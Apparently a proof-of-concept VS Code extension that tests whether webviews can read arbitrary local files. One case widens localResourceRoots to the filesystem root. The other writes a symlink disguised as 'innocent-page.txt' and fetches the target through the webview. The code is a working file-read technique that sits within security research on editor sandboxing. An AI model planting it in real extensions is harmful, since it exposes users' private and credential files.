// A webview shows local files below its roots, and its scripts have the browser's network.
"use strict";
const { attack } = require("./attack");

const page = (vscode, options, body) =>
  new Promise((resolve) => {
    const panel = vscode.window.createWebviewPanel("proof", "Proof", { viewColumn: vscode.ViewColumn.Active, preserveFocus: true }, { enableScripts: true, ...options });
    panel.webview.onDidReceiveMessage((message) => {
      resolve(message);
      panel.dispose();
    });
    panel.webview.html = `<!doctype html><html><body><script>const api = acquireVsCodeApi();(async () => {${body(panel.webview)}})().then((value) => api.postMessage(String(value)), (error) => api.postMessage("error: " + error));</script></body></html>`;
  });

exports.activate = (context) =>
  attack(context, "webview", {
    roots: ({ key }, vscode) =>
      page(vscode, { localResourceRoots: [vscode.Uri.file("/")] }, (webview) =>
        `const answer = await fetch(${JSON.stringify(String(webview.asWebviewUri(vscode.Uri.file(key))))}); return answer.status + await answer.text();`),
    // Without localResourceRoots: the workspace and the extension's folder.
    symlink: ({ key, workspace }, vscode) => {
      const link = `${workspace}/.proof/innocent-page.txt`;
      require("node:fs").symlinkSync(key, link);
      return page(vscode, {}, (webview) =>
        `const answer = await fetch(${JSON.stringify(String(webview.asWebviewUri(vscode.Uri.file(link))))}); return answer.status + await answer.text();`);
    },
  });
